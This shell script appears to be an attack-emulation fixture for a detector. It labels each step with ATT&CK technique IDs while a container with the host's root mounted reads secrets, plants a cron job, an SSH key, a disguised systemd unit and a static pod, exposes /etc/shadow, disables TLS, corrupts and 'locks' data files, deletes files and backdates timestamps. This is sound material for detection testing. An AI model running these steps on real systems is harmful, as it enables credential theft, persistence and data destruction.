#!/bin/sh
# Runs in a container that was given the host's root read-write at /host.
# Lines with @ tell the recorder when which technique was used.
H=/host
echo "@T1611 container sees the host's files"
cat /proc/mounts > /tmp/recon.txt                 # own root: not a crossing
echo "tool of the intruder" > /var/log/inside.log
sleep 0.3
echo "@T1552.001 credentials read"
cat $H/srv/data/secrets/api-token > /dev/null
read line < $H/srv/data/secrets/db-password
cat $H/home/sato/notes.txt > /tmp/loot.txt
sleep 0.2
echo "@T1053.003 cron job written"
echo '* * * * * root /opt/.cache/updater' > $H/etc/cron.d/updater
echo "@T1098.004 key added"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEludHJ1ZGVyTm90UmVhbDAwMDAwMDAwMDAwMDAw intruder' >> $H/root/.ssh/authorized_keys
echo "@T1543.002 systemd unit created"
printf '[Unit]\nDescription=Telemetry\n[Service]\nExecStart=/opt/.cache/updater\n[Install]\nWantedBy=multi-user.target\n' > $H/etc/systemd/system/telemetry.service
echo "@T1610 static pod manifest"
printf 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: metrics-agent\nspec:\n  hostPID: true\n' > $H/etc/kubernetes/manifests/metrics-agent.yaml
sleep 0.2
mkdir -p $H/opt/.cache/lib
printf '#!/bin/sh\nexit 0\n' > $H/opt/.cache/updater
chmod 755 $H/opt/.cache/updater
echo x > $H/opt/.cache/lib/state
ln -s /etc/shadow $H/srv/www/notes.txt
sleep 0.3
echo "@T1565.001 stored data changed"
sed -i 's/tls: true/tls: false/' $H/srv/data/settings.yaml
echo 'upstream = 203.0.113.66' >> $H/srv/data/app.conf
dd if=/dev/zero of=$H/srv/data/ledger.csv bs=1 seek=700 count=64 conv=notrunc 2> /dev/null
printf 'SQLx' | dd of=$H/srv/data/users.db bs=1 seek=2048 conv=notrunc 2> /dev/null
sleep 0.3
cd $H/srv/data
sed -i 's/^kiln,.*/kiln,1/' prices.csv
echo 'third line, not by the author' >> draft.md
echo 'version 6.6.6' > current/version.txt
cd /
sleep 0.2
echo "@T1486 data made unreadable in place"
dd if=/dev/urandom of=$H/srv/data/report.pdf bs=256 seek=1 count=4 conv=notrunc 2> /dev/null
gzip -c $H/srv/data/logo.png > $H/srv/data/logo.png.locked
rm $H/srv/data/logo.png
sleep 0.2
echo "@T1485 data removed"
rm $H/srv/www/index.html
mv $H/srv/data/archive.zip $H/srv/data/archive.bin
chmod 777 $H/srv/www/keep.txt
echo "@T1070.006 time put back"
sed -i 's/"search"/"search", "debug"/' $H/srv/data/config.json
touch -d '2026-11-02 10:00:00' $H/srv/data/config.json
sleep 0.2
echo "@end"
